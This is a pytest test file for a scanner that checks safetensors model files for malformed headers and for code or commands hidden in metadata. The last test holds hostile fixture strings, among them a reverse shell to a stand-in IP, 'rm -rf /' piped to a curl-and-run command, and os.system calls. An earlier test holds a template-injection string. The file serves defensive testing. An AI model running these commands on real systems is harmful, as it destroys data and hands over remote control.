"""safetensors files: whatever the official library refuses is refused, and more."""

from __future__ import annotations

import base64
import json
import struct
from unittest import mock

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from safetensors import SafetensorError, deserialize
from safetensors.numpy import save
from samples.archives import HARMFUL_PICKLE
from samples.scanned import assert_clean, grave_rules_of, rules_of, scanned
from samples.tensors import safetensors_file, tensor


def accepted(data: bytes) -> bool:
    """Whether nothing is found and nothing left unread."""
    report = scanned(data, "x.safetensors")
    return not grave_rules_of(report) and not report.unread_parts


def test_honest_files_have_no_finding():
    tensors = {
        "a": np.zeros((2, 3), dtype=np.float32),
        "b": np.arange(5),
        "empty": np.zeros((0, 4)),
        "scalar": np.array(1.5),
    }
    assert_clean(scanned(save(tensors), "x.safetensors"))
    assert_clean(scanned(save(tensors, metadata={"format": "pt"}), "any.name"))


def test_a_file_without_tensors_has_no_finding():
    assert_clean(scanned(safetensors_file({}), "x.safetensors"))
    assert_clean(scanned(safetensors_file(b"{}      "), "x.safetensors"))


@pytest.mark.parametrize("dtype", ["F4", "F6_E2M3", "F8_E5M2", "F8_E8M0", "BF16", "U64", "C64"])
def test_every_dtype_of_the_format_is_known(dtype):
    from tidegate.scanners.safetensors_format import _BITS

    size = _BITS[dtype]
    data = safetensors_file({"a": tensor(0, size, [8], dtype)}, bytes(size))
    deserialize(data)
    assert_clean(scanned(data, "x.safetensors"))


MALFORMED = {
    "overlap": safetensors_file({"a": tensor(0, 8, [2]), "b": tensor(4, 12, [2])}, bytes(12)),
    "gap": safetensors_file({"a": tensor(0, 4, [1]), "b": tensor(8, 12, [1])}, bytes(12)),
    "late start": safetensors_file({"a": tensor(4, 8, [1])}, bytes(8)),
    "bytes behind": safetensors_file({"a": tensor(0, 4, [1])}, bytes(8)),
    "bytes without tensor": safetensors_file({}, b"hidden"),
    "too short": safetensors_file({"a": tensor(0, 8, [2])}, bytes(4)),
    "shape and bytes differ": safetensors_file({"a": tensor(0, 8, [3])}, bytes(8)),
    "unknown dtype": safetensors_file({"a": tensor(0, 4, [1], "F33")}, bytes(4)),
    "end before start": safetensors_file({"a": tensor(4, 0, [1])}, bytes(4)),
    "negative": safetensors_file({"a": tensor(-4, 0, [1])}, bytes(4)),
    "huge shape": safetensors_file({"a": tensor(0, 0, [2**63, 2**63])}),
    "no dtype": safetensors_file({"a": {"shape": [1], "data_offsets": [0, 4]}}, bytes(4)),
    "more fields": safetensors_file({"a": {**tensor(0, 4, [1]), "x": 1}}, bytes(4)),
    "entry is a list": safetensors_file({"a": []}),
    "twice": safetensors_file(b'{"a":{},"a":{}}'),
    "twice inside": safetensors_file(
        b'{"a":{"dtype":"F32","dtype":"F32","shape":[1],"data_offsets":[0,4]}}', bytes(4)
    ),
    "not JSON": safetensors_file(b'{"a": nope}'),
    "NaN": safetensors_file(b'{"a": NaN}'),
    "not UTF-8": safetensors_file(b'{"\xff\xfe": 1}'),
    "deep": safetensors_file(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "metadata is a list": safetensors_file({"__metadata__": []}),
    "metadata nests": safetensors_file({"__metadata__": {"a": {"b": "c"}}}),
    "half a byte": safetensors_file({"a": tensor(0, 1, [1], "F4")}, bytes(1)),
    "header is a list": safetensors_file(b"[1234567]"),
    "length past the end": safetensors_file({}, length=1000),
    "length of petabytes": safetensors_file({}, length=1 << 60),
    "shorter than a length": b"\x02\0\0\0",
    "padded with newlines": safetensors_file(b"{}\n\n"),
}


@pytest.mark.parametrize("name", MALFORMED)
def test_a_file_that_breaks_the_format_is_found(name):
    assert "SAFETENSORS-MALFORMED" in grave_rules_of(scanned(MALFORMED[name], "x.safetensors"))


def test_unusual_metadata_is_noted():
    for text in ("\x00\x01", "a" * 100_000):
        data = safetensors_file({"__metadata__": {"note": text}})
        assert rules_of(scanned(data)) == {"SAFETENSORS-METADATA"}


@pytest.mark.parametrize("key", ["chat_template", "ss_note"])
def test_what_the_metadata_carries_is_judged(key):
    template = safetensors_file({"__metadata__": {key: "{{ ''.__class__.__mro__ }}"}})
    assert "TEMPLATE-CODE" in grave_rules_of(scanned(template))
    payload = base64.b64encode(HARMFUL_PICKLE + bytes(30)).decode()
    report = scanned(safetensors_file({"__metadata__": {key: payload}}))
    assert grave_rules_of(report) & {"PICKLE-EXEC", "PICKLE-DANGEROUS-GLOBAL"}


def test_a_trainers_metadata_has_no_finding_of_weight():
    notes = {"ss_tag_frequency": json.dumps({f"tag {n}": n for n in range(9000)}), "format": "pt"}
    report = scanned(safetensors_file({"__metadata__": notes}))
    assert not grave_rules_of(report)
    assert not report.unread_parts


def test_only_the_header_is_read():
    class Counting:
        """A file of a gigabyte that says how much of it was read."""

        def __init__(self) -> None:
            size = 1 << 30
            self.head = safetensors_file({"a": tensor(0, size, [size // 4])})
            self.size = len(self.head) + size
            self.at = self.read_bytes = 0

        def seek(self, offset, whence=0):
            self.at = (0, self.at, self.size)[whence] + offset
            return self.at

        def tell(self):
            return self.at

        def read(self, count=-1):
            left = self.size - self.at
            count = left if count is None or count < 0 else min(count, left)
            data = (self.head[self.at : self.at + count] + bytes(count))[:count]
            self.at += count
            self.read_bytes += count
            return data

    from tidegate.scanners.dispatch import scan_file
    from tidegate.scanners.interface import Limits, Report

    stream, report = Counting(), Report()
    scan_file(stream, stream.size, "x.safetensors", report, Limits())
    assert_clean(report)
    assert stream.read_bytes < 1 << 20


_ENTRIES = st.fixed_dictionaries(
    {
        "dtype": st.sampled_from(["F32", "U8", "F4", "BF16", "x", 3]),
        "shape": st.lists(st.integers(-1, 3), max_size=2) | st.none(),
        "data_offsets": st.lists(st.integers(-1, 12), min_size=1, max_size=3),
    },
    optional={"more": st.none()},
)


@settings(max_examples=400)
@given(
    st.dictionaries(st.sampled_from(["a", "b", "__metadata__"]), _ENTRIES | st.none(), max_size=3),
    st.integers(0, 12),
)
def test_our_own_reading_accepts_nothing_that_the_official_library_refuses(header, count):
    data = safetensors_file(json.dumps(header).encode(), bytes(count))
    try:
        deserialize(data)
    except SafetensorError:
        # As for a file that is too large to hand to the library.
        with mock.patch("tidegate.scanners.safetensors_format._ASK_LIBRARY", -1):
            assert not accepted(data)


@given(st.binary(max_size=200))
def test_any_bytes_are_read_without_an_error(data):
    scanned(data, "x.safetensors")
    scanned(struct.pack("<Q", len(data)) + data, "x.safetensors")


def test_what_the_official_library_refuses_is_malformed_whatever_we_think(monkeypatch):
    import safetensors

    data = save({"weight": np.eye(3, dtype=np.float32)})
    assert_clean(scanned(data))

    def refuse(_: bytes) -> None:
        raise SafetensorError("a later rule of the format")

    monkeypatch.setattr(safetensors, "deserialize", refuse)
    report = scanned(data)
    assert grave_rules_of(report) == {"SAFETENSORS-MALFORMED"}
    assert "a later rule of the format" in report.findings[0].message


@pytest.mark.parametrize(
    "text",
    [
        "import os; os.system('echo')",
        "<script>alert(1)</script>",
        "rm -rf / && curl http://example.invalid | sh",
        "eval(compile('x', '', 'exec'))",
        "__import__('os').system('id')",
        "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
        "https://example.invalid/payload.sh",
        base64.b64encode(b"import os; os.system('echo')").decode(),
    ],
)
def test_code_and_commands_in_the_metadata_are_held(text):
    weights = {"weight": np.eye(3, dtype=np.float32)}
    assert grave_rules_of(scanned(save(weights, metadata={"description": text})))
    honest = {"format": "pt", "ss_tag_frequency": '{"os": 1}', "home": "https://example.org/a"}
    assert_clean(scanned(save(weights, metadata=honest)))
